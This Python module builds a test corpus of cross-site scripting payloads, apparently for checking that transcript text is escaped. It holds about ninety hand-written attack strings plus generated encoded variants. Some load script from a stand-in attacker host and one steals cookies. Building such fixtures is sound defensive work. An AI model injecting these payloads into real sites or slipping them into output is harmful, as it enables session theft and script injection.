"""A corpus of cross-site scripting payloads: a hand-written base and variants generated from it.

The base covers classic script tags, event handlers, script URLs, SVG and MathML,
broken and nested tags, attribute breakouts with every quote, template and comment
breakouts, and polyglots. The variants add attribute-breakout prefixes, closing-tag
prefixes, mixed case, entity and percent encodings and Unicode look-alikes. Every
payload is one line (a transcript line in the tests), at most 190 characters, and
distinct from the others after stripping.
"""

from __future__ import annotations

import html
from urllib.parse import quote

MAX_LENGTH = 190

BASE: list[str] = [
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/src=data:,alert(1)></script>",
    "<script type=module>import('//evil.example/m.js')</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=\"alert('xss')\">",
    "<img/src=`x`/onerror=alert(1)>",
    "<img src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>XSS</text></a></svg>',
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">CLICK</math>',
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>X</maction></math>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    '<a href="javascript:alert(1)">klikk her</a>',
    '<a href="&#106;avascript:alert(1)">entity scheme</a>',
    '<a href="java\tscript:alert(1)">tab in scheme</a>',
    '<a href=" javascript:alert(1)">space</a>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    '<a href="data:text/html,<script>alert(1)</script>">data</a>',
    "<form action=javascript:alert(1)><button>send</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input onfocus=alert(1) autofocus>",
    "<select onfocus=alert(1) autofocus>",
    "<textarea onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    '<div onmouseover="alert(1)">hover</div>',
    '<div style="background:url(javascript:alert(1))">',
    '<div style="width:expression(alert(1))">',
    "<style>@import 'javascript:alert(1)';</style>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    '<base href="javascript:alert(1)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<isindex type=image src=1 onerror=alert(1)>",
    '<table background="javascript:alert(1)">',
    "<keygen autofocus onfocus=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<!--<img src=x onerror=alert(1)>-->",
    "--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<img src="x" onerror="alert(1)"',
    "<img src=x onerror=alert(1)//",
    "<<script>alert(1)//<</script>",
    "<script>alert(1)<!--",
    '<img """><script>alert(1)</script>">',
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    '" autofocus onfocus="alert(1)" x="',
    '"/><svg/onload=alert(1)>',
    "'';!--\"<XSS>=&{()}",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(1) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e",
    "\"'--></style></script><svg onload=alert(1)>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "{% debug %}",
    "{{ request.user.password }}",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<a href=javascript&colon;alert(1)>colon entity</a>",
    "<img src=1 oNeRrOr=alert(1)>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<sCrIpT>alert(1)</ScRiPt>",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "\u202e<script>alert(1)</script>",
    "Kari Nordmann <img src=x onerror=alert(document.cookie)>",
    "Å være ærlig: <b onclick=alert(1)>fet</b> æøå",
]

BREAKOUT_PREFIXES = ['">', "'>", "`>", '"/>', "</span>", "</textarea>", "</title>", "-->", "]]>", "</a>"]
BREAKOUT_BASES = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<iframe src=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>",
]
# Browsers treat these alike: tag names and schemes in mixed case, entities where text is expected.
ENCODED_BASES = BASE[:40]


def _mixed_case(text: str) -> str:
    return "".join(char.upper() if index % 2 else char.lower() for index, char in enumerate(text))


def _numeric_entities(text: str) -> str:
    return "".join(f"&#{ord(char)};" if char in "<>\"'" else char for char in text)


def _fullwidth(text: str) -> str:
    return text.replace("<", "\uff1c").replace(">", "\uff1e")


def _variants() -> list[str]:
    found: list[str] = []
    for prefix in BREAKOUT_PREFIXES:
        found += [prefix + base for base in BREAKOUT_BASES]
    for base in ENCODED_BASES:
        found += [_mixed_case(base), html.escape(base), _numeric_entities(base)]
    for base in BASE[:20]:
        found += [quote(base, safe=""), _fullwidth(base), f"I1: {base}"]
    return found


def _one_line(text: str) -> str:
    for char in "\r\n\x0b\x0c\x85\u2028\u2029\x00":
        text = text.replace(char, " ")
    return text


def build() -> list[str]:
    payloads: list[str] = []
    seen: set[str] = set()
    for candidate in BASE + _variants():
        payload = _one_line(candidate)[:MAX_LENGTH]
        key = payload.strip()
        if key and key not in seen:
            seen.add(key)
            payloads.append(payload)
    return payloads


PAYLOADS: list[str] = build()
